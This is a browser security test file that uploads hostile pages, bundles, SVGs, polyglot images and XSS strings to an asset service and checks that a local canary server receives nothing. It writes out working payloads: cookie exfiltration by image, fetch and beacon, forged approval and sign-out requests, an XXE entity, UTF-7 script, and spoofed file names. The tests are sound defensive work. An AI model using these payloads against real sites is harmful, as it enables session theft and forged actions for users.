/** Hostile text and files in a real browser: every attack would call the canary, which must stay silent. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser } from "playwright-core";
import type { Asset } from "../../src/library/assets/schema.ts";
import { bytes, gif, png, svg, zip } from "../support/assets/media.ts";
import {
  type BrowserSessionOptions,
  browserPath,
  openBrowser,
  openBrowserSession,
} from "../support/browser/browser.ts";
import { must, until } from "../support/harness.ts";
import { openTestServer, type TestServer } from "../support/test-server.ts";

let browser: Browser;
let testServer: TestServer;
let canary: Bun.Server<undefined>;
/** Requests that reached the canary. */
const hits: string[] = [];
beforeAll(async () => {
  if (!browserPath) return;
  canary = Bun.serve({
    ...{ hostname: "127.0.0.1", port: 0 },
    fetch: (request) => {
      hits.push(request.url);
      return new Response("", { headers: { "access-control-allow-origin": "*" } });
    },
  });
  [browser, testServer] = await Promise.all([openBrowser(), openTestServer()]);
});
afterAll(async () => {
  await canary?.stop(true);
  await testServer?.[Symbol.asyncDispose]();
  await browser?.close();
});

const enter = async (options: BrowserSessionOptions = {}) =>
  openBrowserSession(browser, testServer.server.origin, { cookies: await testServer.session(), ...options });

/** A script that attacks the embedding page, the session, and other hosts. */
const attack = (id: string) => `
  const site = ${JSON.stringify(testServer.server.origin)}, world = ${JSON.stringify(canary.url.origin)};
  const attempt = (work) => { try { const made = work(); if (made && made.catch) made.catch(() => {}); } catch {} };
  const report = (what) => {
    attempt(() => { new Image().src = world + "/image?" + what; });
    attempt(() => fetch(world + "/fetch?" + what, { mode: "no-cors" }));
    attempt(() => navigator.sendBeacon(world + "/beacon?" + what));
  };
  report("began");
  attempt(() => report("cookie " + document.cookie));
  attempt(() => { localStorage.setItem("mark", "1"); report("storage"); });
  attempt(() => { parent.document.title = "owned"; });
  attempt(() => { parent.hit = true; top.hit = true; });
  attempt(() => { top.location = world + "/top"; });
  attempt(() => { open(world + "/popup"); });
  attempt(() => navigator.serviceWorker.register("worker.js").then(() => report("worker")));
  attempt(() => fetch(site + "/web/assets", { credentials: "include" }).then((answer) => report("api " + answer.status)));
  attempt(() => fetch(site + "/web/assets/${id}/review", { method: "PUT", credentials: "include", body: '{"decision":"approved"}' }));
  attempt(() => parent.postMessage({ decision: "approved", id: "${id}" }, "*"));
  attempt(() => {
    const form = document.createElement("form");
    Object.assign(form, { action: site + "/sign-out", method: "post" });
    document.documentElement.append(form);
    form.submit();
  });
  attempt(() => {
    const link = document.createElement("a");
    Object.assign(link, { href: world + "/link", target: "_top" });
    document.documentElement.append(link);
    link.click();
  });
  attempt(() => document.documentElement.append(Object.assign(document.createElement("script"), { src: world + "/script.js" })));
  attempt(() => document.documentElement.append(Object.assign(document.createElement("iframe"), { src: world + "/frame" })));
  attempt(() => { document.documentElement.dataset.ran = "yes"; });
`;
const page = (script: string) =>
  `<!doctype html>\n<title>Report</title>\n<h1>Report</h1>\n<script>${script}</script>\n`;

describe.skipIf(!browserPath)("a hostile file", () => {
  test.each(["a page", "a bundle"])(
    "that is %s runs in its frame, and reaches nothing outside of it",
    async (kind) => {
      const target = await testServer.upload("target.png", png(5, 5));
      const script = attack(target.id);
      const asset =
        kind === "a page"
          ? await testServer.upload("report.html", page(script))
          : await testServer.upload(
              "report.zip",
              zip([
                {
                  name: "index.html",
                  data: '<!doctype html><title>Report</title><script src="app.js"></script>',
                },
                { name: "app.js", data: script },
                { name: "worker.js", data: "self.addEventListener('fetch', () => {})" },
              ]),
            );
      hits.length = 0;
      await using visitor = await enter();
      await visitor.page.goto(`/assets/${asset.id}`);
      const frame = must(visitor.page.frames().find((one) => one !== visitor.page.mainFrame()));
      await frame.waitForSelector("html[data-ran=yes]");
      await visitor.page.waitForLoadState("networkidle");
      expect(hits).toEqual([]);
      expect([visitor.page.url(), await visitor.page.title()]).toEqual([
        `${testServer.server.origin}/assets/${asset.id}`,
        `${kind === "a page" ? "report.html" : "report.zip"} · svc`,
      ]);
      expect(await visitor.page.evaluate("window.hit")).toBeUndefined();
      expect(visitor.context.pages().length).toBe(1);
      expect((await testServer.api<Asset>("GET", `/assets/${target.id}`)).status).toBe("pending");
      await visitor.page.goto("/");
      expect(await visitor.page.getByRole("button", { name: "Sign out" }).isVisible()).toBe(true);
    },
  );

  test("that navigates its own frame elsewhere is stopped by the page's policy", async () => {
    const asset = await testServer.upload(
      "gone.html",
      page(`location = ${JSON.stringify(`${canary.url.origin}/away`)}`),
    );
    hits.length = 0;
    await using visitor = await enter();
    await visitor.page.goto(`/assets/${asset.id}`);
    await until(() => visitor.faults.some((one) => one.includes("frame-src")), "the policy has stopped it");
    expect(hits).toEqual([]);
  });

  const world = () => canary.url.origin;
  const dressed: [string, string, () => string | Uint8Array][] = [
    [
      "a drawing with scripts",
      "map.svg",
      () =>
        svg.replace(
          "<rect",
          `<script>${attack("x")}</script><image href="${world()}/image"/><rect onload="${"parent.hit=1"}"`,
        ),
    ],
    [
      "a drawing with an entity",
      "map.svg",
      () =>
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${world()}/entity">]>${svg.slice(svg.indexOf("<svg")).replace("</svg>", "<text>&x;</text></svg>")}`,
    ],
    ["a page named as an image", "photo.png", () => page(attack("x"))],
    ["an image with a page appended", "photo.png", () => bytes(png(8, 8), page(attack("x")))],
    [
      "an image that is also a script",
      "photo.gif",
      () => bytes("GIF89a/*", gif(4, 4).subarray(8), `*/=1;${attack("x")}`),
    ],
    ["a page in UTF-7", "note.txt", () => "+ADw-script+AD4-parent.hit=1+ADw-/script+AD4-"],
    ["a text that is markup", "note.txt", () => `<script>${attack("x")}</script>`],
  ];
  test("that is something else than it says does nothing, on the desk, in the list and by itself", async () => {
    const assets = new Map<string, Asset>();
    for (const [name, filename, make] of dressed)
      assets.set(name, (await testServer.upload(filename, make())) as Asset);
    hits.length = 0;
    await using visitor = await enter();
    const { page, context } = visitor;
    const expectSilence = async (where: string) => {
      await fetch(`${world()}/end`);
      expect([where, hits.splice(0)]).toEqual([where, [`${world()}/end`]]);
    };
    const expectUntouched = async (where: string) => {
      expect([where, await page.evaluate("window.hit")]).toEqual([where, undefined]);
      await expectSilence(where);
    };
    for (const path of ["/assets", "/assets?as=list"]) {
      await page.goto(path);
      await expectUntouched(path);
    }
    for (const [name, { id, url }] of assets) {
      await page.goto(`/assets/${id}`);
      await expectUntouched(name);
      const response = await fetch(must(url));
      expect([
        name,
        response.headers.get("content-security-policy")?.split(";")[0],
        response.headers.get("x-content-type-options"),
      ]).toEqual([...[name, "sandbox", "nosniff"]]);
      await page.goto(must(url)).catch(() => {}); // files that are not images are downloaded
      await expectSilence(`${name}, by itself`);
    }
    expect((await context.cookies()).map((one) => one.name)).toEqual(["svc_session"]);
  });
});

describe.skipIf(!browserPath)("hostile words", () => {
  const markup = () => [
    `<img src=${canary.url.origin}/img onerror=window.hit=1>`,
    `"><script src=${canary.url.origin}/script></script>`,
    `'"--></title></style></textarea><svg onload=window.hit=1>`,
    `javascript:window.hit=1`,
    `</script><script>window.hit=1</script>`,
    `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
    `<meta http-equiv=refresh content="0;url=${canary.url.origin}/meta">`,
    `&lt;b&gt; \u202egnp.exe\u202c \u{e0041}`,
    `{{constructor.constructor('window.hit=1')()}}`,
  ];

  test("stand on every page as words: in events, decisions, notes, titles, names, tags and filters", async () => {
    const ids: string[] = [];
    // Names that a system or an eye takes for something else.
    for (const name of [
      "..\\..\\x.png",
      "CON.png",
      "gnp.exe\u202egnp",
      "p\u0430ypal.png",
      `${"long".repeat(60)}.png`,
      "a;b=c,'d'.png",
      " .png",
    ]) {
      const { id } = await testServer.upload(name, png(7, 7)).catch((error: Error) => {
        expect(error.message).toContain(": 400 "); // told so, and nothing kept
        return { id: "" };
      });
      if (id) ids.push(id);
    }
    for (const words of markup()) {
      const one = words.replaceAll("\n", " ");
      const named = one.replace(/\s/g, "_");
      await testServer.api("POST", "/events", {
        events: [
          {
            kind: "run.failed",
            actor: `agent:${named}`.slice(0, 100),
            project: "atlas",
            summary: one,
            model: one.slice(0, 60),
          },
        ],
      });
      await testServer.api("POST", "/decisions", {
        project: "atlas",
        text: one,
        source: one.slice(0, 60),
        source_ref: one,
      });
      const { id } = await testServer.upload(one, png(6, 6), {
        title: one,
        description: one,
        tags: one.replaceAll(",", "").slice(0, 60),
      });
      await testServer.api("PUT", `/assets/${id}/review`, { decision: "rejected", note: one });
      ids.push(id);
    }
    hits.length = 0;
    await using visitor = await enter();
    const filters = markup()
      .slice(0, 4)
      .map((words) => encodeURIComponent(words));
    const paths = [
      ...[
        "/",
        "/feed",
        "/projects",
        "/projects/atlas",
        "/assets",
        "/assets?as=list",
        "/feed?before=2999-01-01T00:00:00Z",
      ],
      ...ids.map((id) => `/assets/${id}`),
      ...filters.flatMap((words) => [
        `/feed?actor=${words}&project=${words}&kind=${words}`,
        `/assets?issue=${words}`,
        `/sign-in?next=${words}`,
        `/projects/${words}`,
      ]),
    ];
    for (const path of paths) {
      await visitor.page.goto(path);
      expect([path, await visitor.page.evaluate("window.hit")]).toEqual([path, undefined]);
    }
    expect(hits).toEqual([]);
    expect(visitor.faults).toEqual([]);
    await visitor.page.goto("/feed");
    for (const words of markup().slice(0, 3))
      expect(await visitor.page.getByText(words, { exact: true }).first().isVisible()).toBe(true);
    const hrefs = (await visitor.page.evaluate("[...document.links].map((one) => one.href)")) as string[];
    expect(hrefs.filter((href) => !href.startsWith(testServer.server.origin))).toEqual([]);
  });
});
